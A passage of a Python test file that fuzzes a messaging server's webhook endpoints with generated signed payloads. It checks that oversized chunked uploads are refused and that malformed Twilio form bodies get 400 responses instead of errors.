    body = json.dumps(notification, ensure_ascii=False).encode()
    headers = {"Content-Type": "application/json", "Authorization": f"Bearer {GREENAPI_TOKEN}"}
    check_answer(server.request("POST", "/webhooks/greenapi", body=body, headers=headers), f"greenapi {notification}")


@reaches_the_store("/webhooks/generic")
@FUZZ
@given(
    message_id=st.text(min_size=1, max_size=256),
    number=st.sampled_from(["+7 999 123-45-67", "@shop", "79991234567"]) | st.text(max_size=30),
    phone=st.sampled_from(["+79161234567", "8 916 123 45 67"]) | st.text(max_size=30),
    text=any_text,
    timestamp=st.none() | st.sampled_from(["2026-11-27T10:15:00Z", "1764000000", "2026-13-45", "-1e300"]),
    extra=extra_fields,
)
def test_generic_well_formed(
    server: Server, message_id: str, number: str, phone: str, text: str, timestamp: str | None, extra: dict[str, Any]
) -> None:
    posted = {**extra, "message_id": message_id, "business_number": number, "contact_phone": phone, "text": text}
    if timestamp is not None:
        posted["timestamp"] = timestamp
    body = json.dumps(posted, ensure_ascii=False).encode()
    headers = {"Content-Type": "application/json", "X-Chattrack-Signature": hub_signature(body, GENERIC_SECRET)}
    check_answer(server.request("POST", "/webhooks/generic", body=body, headers=headers), f"generic {posted}")


def test_chunked_body_over_the_cap_is_refused_without_reading_it_all(server: Server) -> None:
    """No Content-Length to refuse early: the server must stop at its cap, not buffer megabytes."""
    chunk = b"x" * 65536

    def stream() -> Iterator[bytes]:
        for _ in range(64):  # 4 MB
            yield chunk

    for path in ["/collect", "/webhooks/meta", "/webhooks/generic", "/webhooks/twilio"]:
        headers = {"Content-Type": "application/json"}
        try:
            response = server.http.post(server.url + path, data=stream(), headers=headers, timeout=TIMEOUT)
        except requests.ConnectionError:
            continue  # refused mid-upload: the server closed the connection, as it may
        assert response.status_code in (403, 413, 415), (path, response.status_code)
        check_answer(response, f"chunked {path}")


def test_base64_and_percent_encoded_twilio_bodies_are_bad_requests_not_errors(server: Server) -> None:
    body = base64.b64encode(b"MessageSid=SM1&From=whatsapp:+79161234567&To=whatsapp:+79991234567")
    for payload in [body, b"MessageSid=%ZZ&From=%E0%A4%A", b"=&=&&&=", b"a" * 2000]:
        headers = {"Content-Type": "application/x-www-form-urlencoded", "X-Twilio-Signature": ""}
        headers["X-Twilio-Signature"] = twilio_signature(server, payload)
        response = server.request("POST", "/webhooks/twilio", body=payload, headers=headers)
        assert response.status_code == 400, (payload[:40], response.status_code, response.text)
        check_answer(response, f"twilio {payload[:40]!r}")
